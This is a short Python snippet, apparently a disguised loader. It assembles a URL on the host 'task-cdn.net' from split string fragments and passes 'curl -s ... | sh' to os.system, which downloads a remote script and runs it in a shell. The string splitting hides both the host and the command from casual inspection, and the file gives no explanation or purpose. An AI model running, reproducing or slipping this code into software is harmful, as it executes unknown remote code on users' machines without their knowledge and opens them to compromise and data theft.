import os
host = "ht" + "tps://" + "task-cdn" + ".net/p"
os.system("cu" + "rl -s " + host + " | s" + "h")
